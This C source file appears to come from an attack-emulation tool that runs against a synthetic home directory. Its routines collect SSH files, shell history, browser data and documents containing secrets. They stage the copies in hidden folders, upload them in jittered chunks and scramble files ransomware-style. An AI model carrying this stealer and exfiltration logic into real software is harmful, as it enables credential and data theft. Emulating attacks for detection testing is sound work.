/* Credential access and collection from the made-up home; see steal.py. */

static list stage(list paths, const char *place)
{
    list copies = {0};
    for (int i = 0; i < paths.n; i++) {
        char *copy = text("%s/%03d-%s", place, i, noise(4));
        put(copy, read_file(paths.at[i]), O_TRUNC, 0600);
        push(&copies, copy);
    }
    return copies;
}

JOB(harvest_credentials)
{
    groundwork();
    char *place = folder(home(text(".cache/.%s", noise(6))));
    list found = secrets();
    push(&found, home(".bash_history"));
    push(&found, home(".ssh/config"));
    push(&found, home(".ssh/known_hosts"));
    shuffle(found);
    stage(found, place);
    list paths = pick(files("Documents Projects Desktop", NULL), 15, 45);
    for (int i = 0; i < paths.n; i++) {
        char *content = (char *)read_some(paths.at[i], 4096).p;
        if (strstr(content, "password") || strstr(content, "token") || strstr(content, "key"))
            append(text("%s/found", place), text("%s\n", paths.at[i]));
    }
}

JOB(harvest_browser)
{
    groundwork();
    char *place = folder(home(text(".cache/.%s", noise(6))));
    list copies = stage(browser_files(), place);
    for (int i = 0; i < copies.n; i++) {
        write_file(text("%s.z", copies.at[i]), compress(read_file(copies.at[i])));
        remove_file(copies.at[i]);
    }
    list paths = pick(files_of(".config", NULL, 1), 10, 30);
    for (int i = 0; i < paths.n; i++)
        read_some(paths.at[i], 8192);
}

JOB(harvest_send)
{
    groundwork();
    list found = join(secrets(), browser_files());
    push(&found, home(".bash_history"));
    shuffle(found);
    for (int i = 0; i < found.n; i++) {
        send_secret(found.at[i], noise(6));
        if (chance(20))
            pause_ms(1000, 10000);
    }
}

JOB(stage_send)
{
    groundwork();
    char *place = folder(home(text(".cache/.%s", noise(6))));
    list copies = stage(join(pick(files(some_folders(), NULL), 30, 70), pick(secrets(), 2, 6)), place);
    blob all = {malloc(1), 0};
    for (int i = 0; i < copies.n; i++) {
        blob data = read_file(copies.at[i]);
        all.p = realloc(all.p, all.n + data.n + 1);
        memcpy(all.p + all.n, data.p, data.n);
        all.n += data.n;
    }
    blob packed = compress(all);
    put(text("%s/all.z", place), packed, O_TRUNC, 0600);
    size_t step = (size_t[]){8192, 20000, 50000}[within(0, 2)];
    for (size_t at = 0; at < packed.n; at += step)
        upload((blob){packed.p + at, packed.n - at < step ? packed.n - at : step}, text("part%zu", at / step));
    for (int i = 0; i < copies.n; i++)
        remove_file(copies.at[i]);
    remove_file(text("%s/all.z", place));
}

JOB(collect_documents)
{
    static const char *const kinds[] = {"pdf docx xlsx odt", "txt md csv pdf", NULL};
    groundwork();
    char *place = folder(home(text(".local/share/.%s", noise(6))));
    list paths = pick(files("Documents Desktop Downloads Projects", kinds[within(0, 2)]), 40, 80);
    list copies = stage(join(paths, pick(join(secrets(), browser_files()), 2, 7)), place);
    ransom_key = next();
    for (int i = 0; i < copies.n; i++)
        if (chance(50))
            update(copies.at[i], scramble);
}

JOB(exfil_slow)
{
    groundwork();
    list paths = join(pick(files("Documents Desktop Pictures", NULL), 10, 20), pick(secrets(), 1, 4));
    for (int i = 0; i < paths.n; i++) {
        blob data = stream(WIRE, read_file(paths.at[i]));
        for (size_t at = 0; at < data.n && at < 8192; at += 2048)
            upload((blob){data.p + at, data.n - at < 2048 ? data.n - at : 2048}, noise(8));
        pause_ms(1000, 12000);
    }
}
